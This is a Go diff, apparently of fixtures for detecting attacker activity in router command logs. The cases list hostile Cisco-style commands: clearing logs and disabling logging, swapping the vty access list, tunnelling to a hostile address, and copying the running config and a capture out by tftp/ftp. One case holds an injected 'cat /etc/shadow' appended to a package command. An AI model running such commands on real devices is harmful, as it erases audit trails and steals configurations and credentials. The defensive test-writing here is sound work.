@@ -21,23 +21,39 @@ type commandCase struct {
 var filesTo = hostile(0)
 
 var commandCases = []commandCase{
-	{id: "AAA-01", what: "logs are cleared", day: 15, hour: 10, minute: 10, device: "edge-r4", apart: 15 * time.Second,
-		commands: []string{"~show users", "clear logging", "clear archive log config"}},
-	{id: "AAA-02", what: "logging and the archive of changes are turned off", day: 15, hour: 11, minute: 20, device: "agg-r2", apart: 10 * time.Second, changes: true,
-		commands: []string{"~configure terminal", "no archive", "no logging trap", "~end"}},
-	{id: "AAA-03", what: "the device is looked over in two minutes", day: 16, hour: 9, minute: 40, device: "core-r3", apart: 14 * time.Second,
-		commands: []string{"terminal length 0", "terminal width 0", "show running-config", "show tacacs", "show cdp neighbors", "show file systems", "dir bootflash:", "show clock", "show platform software status control-processor brief"}},
-	{id: "AAA-05", what: "the access list of the lines is swapped for another", day: 17, hour: 11, minute: 50, device: "agg-r4", apart: 7 * time.Second, changes: true,
-		commands: []string{"~configure terminal", "ip http secure-server", "line vty 0 15", "no access-class MGMT-IN in", "access-class 20 in", "~end"}},
-	{id: "AAA-06", what: "a tunnel is built", day: 18, hour: 10, minute: 25, device: "agg-r5", apart: 20 * time.Second, changes: true,
-		commands: []string{"~configure terminal", "interface Tunnel100", "ip address 10.10.12.1 255.255.255.252", "tunnel source Loopback0", "tunnel destination " + hostile(1).String(), "~end"}},
-	{id: "AAA-07", what: "a Guest Shell is made, used and destroyed", day: 18, hour: 12, minute: 5, device: "core-r3", apart: 7 * time.Minute,
-		commands: []string{"guestshell enable", "guestshell run bash", "guestshell destroy"}, also: []string{"SYS-08"}},
-	{id: "AAA-08", what: "the configuration and a capture are copied outside", day: 21, hour: 10, minute: 5, device: "agg-r6", apart: 3 * time.Minute,
+	{
+		id: "AAA-01", what: "logs are cleared", day: 15, hour: 10, minute: 10, device: "edge-r4", apart: 15 * time.Second,
+		commands: []string{"~show users", "clear logging", "clear archive log config"},
+	},
+	{
+		id: "AAA-02", what: "logging and the archive of changes are turned off", day: 15, hour: 11, minute: 20, device: "agg-r2", apart: 10 * time.Second, changes: true,
+		commands: []string{"~configure terminal", "no archive", "no logging trap", "~end"},
+	},
+	{
+		id: "AAA-03", what: "the device is looked over in two minutes", day: 16, hour: 9, minute: 40, device: "core-r3", apart: 14 * time.Second,
+		commands: []string{"terminal length 0", "terminal width 0", "show running-config", "show tacacs", "show cdp neighbors", "show file systems", "dir bootflash:", "show clock", "show platform software status control-processor brief"},
+	},
+	{
+		id: "AAA-05", what: "the access list of the lines is swapped for another", day: 17, hour: 11, minute: 50, device: "agg-r4", apart: 7 * time.Second, changes: true,
+		commands: []string{"~configure terminal", "ip http secure-server", "line vty 0 15", "no access-class MGMT-IN in", "access-class 20 in", "~end"},
+	},
+	{
+		id: "AAA-06", what: "a tunnel is built", day: 18, hour: 10, minute: 25, device: "agg-r5", apart: 20 * time.Second, changes: true,
+		commands: []string{"~configure terminal", "interface Tunnel100", "ip address 10.10.12.1 255.255.255.252", "tunnel source Loopback0", "tunnel destination " + hostile(1).String(), "~end"},
+	},
+	{
+		id: "AAA-07", what: "a Guest Shell is made, used and destroyed", day: 18, hour: 12, minute: 5, device: "core-r3", apart: 7 * time.Minute,
+		commands: []string{"guestshell enable", "guestshell run bash", "guestshell destroy"}, also: []string{"SYS-08"},
+	},
+	{
+		id: "AAA-08", what: "the configuration and a capture are copied outside", day: 21, hour: 10, minute: 5, device: "agg-r6", apart: 3 * time.Minute,
 		commands: []string{"~dir flash:", "copy running-config tftp://" + filesTo.String() + "/agg-r6.cfg", "copy bootflash:tac.pcap ftp://" + filesTo.String() + "/tac.pcap"},
-		also:     []string{"FLW-06", "FLW-07"}},
-	{id: "AAA-13", what: "a command for packages carries characters of a shell", day: 22, hour: 8, minute: 50, device: "edge-r1", apart: 20 * time.Second,
-		commands: []string{"~show version", "request platform software package describe file bootflash:pkg.bin;cat /etc/shadow>/bootflash/.a"}},
+		also:     []string{"FLW-06", "FLW-07"},
+	},
+	{
+		id: "AAA-13", what: "a command for packages carries characters of a shell", day: 22, hour: 8, minute: 50, device: "edge-r1", apart: 20 * time.Second,
+		commands: []string{"~show version", "request platform software package describe file bootflash:pkg.bin;cat /etc/shadow>/bootflash/.a"},
+	},
 }
 
 // newCaseCommands are the cases of AAA that commands show.
